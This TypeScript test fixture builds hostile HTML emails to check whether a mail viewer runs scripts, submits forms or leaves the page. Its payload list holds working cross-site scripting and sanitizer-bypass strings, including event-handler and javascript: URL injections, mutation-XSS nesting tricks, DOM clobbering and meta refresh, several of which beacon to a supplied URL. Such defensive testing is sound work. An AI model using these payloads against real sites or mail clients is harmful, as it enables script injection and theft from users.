/** Mails in HTML that attack the page that displays them. */
import { letter } from './mail-world.ts';

/** A mail with an attack, and a text by which a test sees that the mail is displayed. */
export const hostileMail = (subject: string, html: string): string =>
  letter(subject, `<html><body><p>You read this</p>${html}</body></html>`, [
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
  ]);

/**
 * HTML that would run a script, send a form, or leave the page. Sources: the classes of OWASP's cheat sheet on filter evasion, and known
 * ways around sanitizers by mutation (namespace confusion, comments, templates).
 */
export function attacksOn(url: string): readonly string[] {
  const run = `alert(1);fetch('${url}/ran')`;
  return [
    `<script>${run}</script><SCRIPT SRC="${url}/a.js"></SCRIPT>`,
    `<img src=x onerror="${run}"><img src=x:x onerror=alert(1) //><body onload="${run}">`,
    `<a href="javascript:${run}" id=a>x</a><a href="JaVa&#x09;Script:alert(1)">x</a><a href="data:text/html,<script>alert(1)</script>">x</a>`,
    `<svg onload="${run}"><script>${run}</script></svg><svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></style></mglyph></table></mtext></math>`,
    `<form action="${url}/form" id=f><input name=a value=b autofocus onfocus="${run}"><button>Go</button></form><button form=f formaction="${url}/go">x</button>`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe><iframe src="javascript:${run}"></iframe>`,
    `<object data="data:text/html,<script>${run}</script>"></object><embed src="javascript:${run}">`,
    `<meta http-equiv="refresh" content="0;url=${url}/refresh"><meta http-equiv="Content-Security-Policy" content="img-src *"><base href="${url}/">`,
    `<noscript><p title="</noscript><img src=x onerror=${run.replaceAll("'", '')}>"></noscript>`,
    `<template><script>${run}</script></template><textarea></textarea><script>${run}</script>`,
    `<div style="width: expression(alert(1)); behavior: url(${url}/b.htc); -moz-binding: url(${url}/x.xml)">x</div>`,
    `<details open ontoggle="${run}"><summary>x</summary></details><video onloadstart="${run}"><source onerror="${run}"></video>`,
    `<select><option><style></option></select><img src=x onerror=alert(1)></style>`,
    `<a href="${url}/top" target="_top" id=t>x</a><div popover id=p></div><button popovertarget=p onclick="${run}">x</button>`,
    `<p id="location" name="document">clobber</p><img name="getElementById"><form name="body"><input name="attributes"></form>`,
    `<div style="position:fixed;inset:0;z-index:9999;background:red">cover</div><dialog open>dialog</dialog>`,
    `<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]><?xml-stylesheet href="javascript:alert(1)"?>`,
  ];
}
